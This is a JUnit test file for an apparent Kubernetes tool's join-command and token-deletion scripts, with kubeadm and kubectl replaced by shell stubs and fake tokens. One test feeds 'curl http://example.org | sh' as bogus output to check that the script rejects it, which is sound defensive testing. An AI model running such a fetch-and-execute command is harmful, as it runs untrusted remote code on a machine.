package io.github.kubeadmwizard.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.kubeadmwizard.engine.HostSpeech.SaidChanged;
import io.github.kubeadmwizard.engine.HostSpeech.SaidFailed;
import io.github.kubeadmwizard.engine.HostSpeech.SaidUnchanged;
import io.github.kubeadmwizard.engine.HostSpeech.SaidValue;
import io.github.kubeadmwizard.engine.HostSpeech.SaidWouldChange;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/** The line with which a machine joins: kubeadm and kubectl are played. */
@Timeout(60)
@EnabledOnOs(OS.LINUX)
final class JoinCommandScriptTest {
  private static final String LINE =
      "kubeadm join lab.internal:6443 --token abcdef.0123456789abcdef"
          + " --discovery-token-ca-cert-hash sha256:"
          + "a".repeat(64);
  private static final String KEY = "b".repeat(64);
  private static final String STAND_INS =
      """
      kubectl() {
        printf '%s\\n' "$*" >> "$KW_ROOT/asked"
        case "$*" in
          *'get configmap kubeadm-config'*) echo 'controlPlaneEndpoint: lab.internal:6443' ;;
          *' get secret/'*) cat "$KW_ROOT/there" ;;
        esac
      }
      kubeadm() {
        printf '%s\\n' "$*" >> "$KW_ROOT/asked"
        case "$1" in
          token) cat "$KW_ROOT/line" ;;
          init) printf '[upload-certs] Using certificate key:\\nKEY\\n' ;;
        esac
      }
      # what is run by exec finds the same
      kw_run() { KW_RC=0 KW_OUT=$("$@" 2>&1) || KW_RC=$?; }
      """
          .replace("KEY", KEY);

  @TempDir private Path root;
  @TempDir private Path work;
  private ScriptRoot host;

  @BeforeEach
  void machine() {
    host = new ScriptRoot(root, work, STAND_INS);
    host.put("etc/kubernetes/admin.conf", "");
    host.put("line", LINE + " \n"); // kubeadm leaves a blank behind
    host.put("there", "");
  }

  private static Map<String, String> wish(String controlPlane) {
    return Map.of("LASTS", "1800", "CONTROL_PLANE", controlPlane);
  }

  private static Map<String, String> values(List<HostSpeech> said) {
    return said.stream()
        .filter(SaidValue.class::isInstance)
        .map(SaidValue.class::cast)
        .collect(Collectors.toMap(SaidValue::name, value -> value.value().reveal()));
  }

  @Test
  void aWorkersLineComesWithItsEnd() throws Exception {
    assertThat(host.look("join-command.sh", wish("0"))).endsWith(new SaidWouldChange());
    assertThat(root.resolve("asked")).doesNotExist();
    var said = host.run("join-command.sh", wish("0"));
    assertThat(said).endsWith(new SaidChanged());
    assertThat(values(said)).containsEntry("join-command", LINE);
    Assertions.assertThat(Instant.parse(values(said).get("join-ends")))
        .isCloseTo(Instant.now().plusSeconds(1800), Assertions.within(1, ChronoUnit.MINUTES));
    assertThat(host.text("asked"))
        .contains("token create --ttl 1800s --description kubeadm-wizard: join command")
        .doesNotContain("upload-certs");
  }

  @Test
  void aControlPlanesLineHasTheKeyOfTheCertificates() throws Exception {
    assertThat(values(host.run("join-command.sh", wish("1"))))
        .containsEntry("join-command", LINE + " --control-plane --certificate-key " + KEY);
  }

  @Test
  void anotherLineThanExpectedIsNoCommand() throws Exception {
    host.put("line", "curl http://example.org | sh\n");
    assertThat(host.run("join-command.sh", wish("0")))
        .endsWith(new SaidFailed("running.noToken", List.of("another line than expected")));
  }

  @Test
  void tokensAreDeletedByTheirNamesAsFarAsTheyAreThere() throws Exception {
    var wish = Map.of("TOKENS", "abcdef\nghijkl");
    assertThat(host.run("join-tokens-delete.sh", wish)).endsWith(new SaidUnchanged());
    host.put("there", "secret/bootstrap-token-abcdef\n");
    assertThat(host.run("join-tokens-delete.sh", wish)).endsWith(new SaidChanged());
    assertThat(host.text("asked"))
        .contains("delete secret/bootstrap-token-abcdef")
        .doesNotContain("delete secret/bootstrap-token-ghijkl");
  }
}
